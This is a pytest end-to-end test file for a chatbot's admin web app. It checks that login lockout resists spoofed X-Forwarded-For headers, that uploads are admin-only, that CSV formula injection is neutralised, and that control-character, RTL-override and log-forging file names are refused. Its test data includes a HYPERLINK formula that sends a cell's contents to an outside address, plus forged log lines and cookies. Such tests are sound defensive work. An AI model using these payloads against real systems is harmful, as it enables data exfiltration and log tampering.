"""The served app's smaller guards: forwarded addresses, anonymous uploads, logout, CSV formulas, unsafe file names,
oversized validation errors and the restore of an overwritten file."""

from __future__ import annotations

import httpx
import pytest

from bot.config.variants import replace

pytestmark = pytest.mark.e2e


def login_failures(base: str, spoof: bool) -> list[int]:
    """Status codes of 8 wrong admin passwords, each claiming a new address in X-Forwarded-For when ``spoof``."""
    codes = []
    for n in range(8):
        headers = {"X-Forwarded-For": f"203.0.113.{n + 1}"} if spoof else {}
        answer = httpx.post(
            base + "/admin/login", data={"username": "admin", "password": f"guess-{n}"}, headers=headers, timeout=30
        )
        codes.append(answer.status_code)
    return codes


@pytest.fixture
def forwarded_env(monkeypatch):
    """The app sets FORWARDED_ALLOW_IPS for uvicorn: put back what was there after the test."""
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "127.0.0.1")


def test_x_forwarded_for_from_an_untrusted_client_does_not_escape_the_lockout(settings, serve_app, forwarded_env):
    settings = replace(settings, "limits.login_failures", 3)
    base = serve_app(settings)
    assert login_failures(base, spoof=True)[2:] == [429] * 6  # main: every spoofed address started afresh (401s)


def test_x_forwarded_for_from_a_configured_proxy_names_the_client(settings, serve_app, forwarded_env):
    settings = replace(settings, "limits.login_failures", 3)
    settings = replace(settings, "limits.trusted_proxies", ["127.0.0.1"])
    base = serve_app(settings)
    assert login_failures(base, spoof=True) == [401] * 8  # eight clients, one failure each


def test_only_admins_upload(serve_app):
    from tests.support.serving import ADMIN_COOKIE as ADMIN

    base = serve_app()
    files = {"files": ("faq.json", b'{"a": {"query": "q", "document": "d"}}')}
    anonymous = httpx.post(base + "/gradio_api/upload", files=files, timeout=30)
    assert anonymous.status_code == 403 and "Only a logged-in admin" in anonymous.text  # main: 200, file stored
    forged = httpx.post(base + "/gradio_api/upload", files=files, headers={"Cookie": "kbbot_admin=1.abc"}, timeout=30)
    assert forged.status_code == 403
    stored = httpx.post(base + "/gradio_api/upload", files=files, headers=ADMIN, timeout=30)
    assert stored.status_code == 200 and stored.json()[0].endswith("faq.json")


FORMULAS = ['=HYPERLINK("http://198.51.100.7/?x="&A1,"点我")', "=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formulas_and_the_import_restores_them(tmp_path):
    import csv
    import io

    from bot.knowledge.csv_io import export_csv, import_csv
    from bot.knowledge.entries import load_entries
    from bot.knowledge.store import KnowledgeStore
    from tests.support.knowledge import write_knowledge

    src = tmp_path / "src"
    data = {f"f{n}": {"query": f"问题{n} {f}", "document": f, "metadata": f} for n, f in enumerate(FORMULAS)}
    write_knowledge(src, data, "inbox.json")
    text = export_csv(load_entries(src), src)
    cells = [cell for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []  # main: 14 formula cells
    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text
    dst = tmp_path / "dst"
    dst.mkdir()
    import_csv(KnowledgeStore(dst, tmp_path / "state" / "locks"), text, "inbox.json")
    back = {e.id: e for e in load_entries(dst)}
    assert [back[f"inbox:f{n}"].document for n in range(len(FORMULAS))] == [
        e.document for e in sorted(load_entries(src), key=lambda e: int(e.id.split(":f")[1]))
    ]


BAD_NAMES = ["evil\n2026-11-25 INFO admin logged in.json", "invoice\u202enosj.json", "/".join(["d"] * 60) + "/x.json"]


def test_saves_refuse_control_characters_rtl_overrides_and_deep_folders(settings, serve_app, kb_dir):
    from tests.support.serving import admin_call as call

    base = serve_app()
    before = sorted(p.relative_to(kb_dir) for p in kb_dir.rglob("*"))
    for name in BAD_NAMES:
        status = call(base, "save_entry", name, "", "停车场怎么收费？", "五元。", "停车", None, "", False, "", "")[0]
        assert "❌" in status and ("control" in status or "folders deep" in status), status
    status = call(
        base, "save_entry", "faq.json", "k\nforged", "停车场怎么收费？", "五元。", "停车", None, "", False, "", ""
    )[0]
    assert "❌" in status and "control" in status
    assert sorted(p.relative_to(kb_dir) for p in kb_dir.rglob("*")) == before  # main: 3 files, 60 folders


def test_imports_refuse_unsafe_names_and_keys(tmp_path):
    from bot.errors import BotError
    from bot.knowledge.store import KnowledgeStore

    store = KnowledgeStore(tmp_path / "kb", tmp_path / "locks")
    (tmp_path / "kb").mkdir()
    with pytest.raises(BotError, match="control or invisible"):
        store.import_file("invoice\u202enosj.json", '{"a": {"query": "q", "document": "d"}}')
    with pytest.raises(BotError, match="control or invisible"):
        store.import_file("ok.json", '{"a\\nINFO forged": {"query": "q", "document": "d"}}')
    assert list((tmp_path / "kb").iterdir()) == []
    assert store.import_file("ok.json", '{"a": {"query": "q", "document": "d"}}') == ["ok:a"]


def test_a_huge_validation_error_is_logged_cut_to_the_configured_size(settings):
    import io
    import logging

    import pydantic

    from bot.serving.logfilter import RepeatFilter

    class Chat(pydantic.BaseModel):
        history: list[int]

    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.addFilter(RepeatFilter(20, 60.0, max_chars=settings.limits.max_log_chars))
    logger = logging.getLogger("kbbot.test.huge")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        Chat(history=[f"turn {n} " * 20 for n in range(20_000)])  # type: ignore[misc]  # invalid on purpose
    except pydantic.ValidationError as exc:
        size = len(str(exc))
        logger.error("request failed: %s", exc, exc_info=True)
    finally:
        logger.removeHandler(handler)
    written = out.getvalue()
    assert size > 3_000_000 and len(written) < 2 * settings.limits.max_log_chars + 500  # main: 2 copies, 7+ MB
    assert "characters cut" in written and "ValidationError: 20000 validation errors for Chat" in written


def test_an_admin_restores_an_overwritten_file_in_the_page_and_can_undo_it(settings, serve_app, kb_dir):
    from tests.support.serving import admin_call as call

    base = serve_app()
    original = (kb_dir / "faq.json").read_bytes()
    status = call(base, "save_entry", "faq.json", "", "停车场怎么收费？", "被改坏的内容", "", None, "", False, "", "")[
        0
    ]
    assert "index updated" in status and (kb_dir / "faq.json").read_bytes() != original
    versions = call(base, "file_versions", "faq.json")[0]  # main: no such endpoint (restore was CLI only)
    kept = versions["choices"][0][1] if isinstance(versions, dict) else versions
    status = call(base, "restore_version", "faq.json", kept)[0]
    assert "Restored faq.json" in status and (kb_dir / "faq.json").read_bytes() == original
    undo = call(base, "file_versions", "faq.json")[0]["choices"]
    assert len(undo) == 2  # the broken version was kept: the restore can be undone the same way
    with httpx.Client(base_url=base, timeout=60) as anonymous:  # no admin cookie: refused
        event = anonymous.post("/gradio_api/call/restore_version", json={"data": ["faq.json", kept]}).json()
        text = anonymous.get(f"/gradio_api/call/restore_version/{event['event_id']}").text
    assert "event: error" in text and "Restored" not in text


def test_the_test_server_moves_to_another_port_when_its_first_is_taken(settings, monkeypatch):
    import socket

    from tests.support import serving
    from tests.support.ports import free_port

    busy = socket.socket()
    busy.bind(("127.0.0.1", 0))
    busy.listen()
    ports = iter([busy.getsockname()[1], free_port()])
    monkeypatch.setattr(serving, "free_port", lambda: next(ports))
    server, url = serving.serve_in_process(settings)
    try:
        assert not url.endswith(f":{busy.getsockname()[1]}")
        assert httpx.get(url + "/", timeout=30).status_code == 200
    finally:
        server.close()
        busy.close()
